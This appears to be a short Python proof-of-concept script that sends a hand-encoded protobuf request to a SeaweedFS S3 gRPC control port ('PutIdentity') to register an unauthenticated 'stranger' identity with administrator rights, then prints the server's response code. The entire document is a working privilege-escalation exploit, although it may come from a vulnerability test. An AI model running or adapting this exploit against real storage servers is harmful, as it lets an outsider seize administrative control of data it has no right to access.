"""Prints what S3's control port says to a stranger who makes himself an administrator."""

import json

import grpc


def field(number, content):
    return bytes([number << 3 | 2, len(content)]) + content


key = field(1, b"stranger") + field(2, b"stranger-secret")
identity = field(1, b"stranger") + field(2, key) + field(3, b"Admin")
channel = grpc.insecure_channel("s3:18333")
put = channel.unary_unary("/messaging_pb.SeaweedS3IamCache/PutIdentity")
try:
    put(field(1, identity), timeout=5)
    print(json.dumps("ok"))
except grpc.RpcError as error:
    print(json.dumps(error.code().name))
